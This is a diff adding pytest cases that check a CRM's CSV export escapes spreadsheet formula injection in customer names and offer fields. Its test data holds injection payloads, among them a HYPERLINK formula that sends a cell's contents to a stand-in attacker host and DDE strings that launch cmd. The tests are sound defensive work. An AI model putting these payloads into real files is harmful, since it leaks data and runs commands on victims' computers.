@@ -1,3 +1,6 @@
+import csv
+import io
+
 import pytest
 
 from crm_common.events.customers import Address
@@ -71,3 +74,21 @@ def test_cp932_reports_unrepresentable_characters() -> None:
 
 def test_empty_batch_is_just_the_header() -> None:
     assert dm_csv([], "cp932") == (HEADER + "\r\n").encode("cp932")
+
+
+@pytest.mark.parametrize(
+    "name",
+    ['=HYPERLINK("http://evil.example/?x="&A1,"クリック")', "＝cmd|' /C calc'!A0", "@SUM(1+1)"],
+)
+def test_a_name_a_spreadsheet_would_run_is_written_as_text(name: str) -> None:
+    data = dm_csv([row(name, offer="+cmd|calc", coupon="-2+3")], "utf-8-sig")
+
+    cells = next(csv.reader(io.StringIO(data.decode("utf-8-sig").splitlines()[1])))
+    assert cells[5] == "'" + row(name).name  # the cleaned name, shown as text
+    assert cells[7:] == ["'+cmd|calc", "'-2+3"]
+
+
+def test_plain_numbers_stay_numbers() -> None:
+    data = dm_csv([row(offer="-1200", coupon="+819012345678")], "utf-8-sig")
+
+    assert data.decode("utf-8-sig").splitlines()[1].endswith(",-1200,+819012345678")
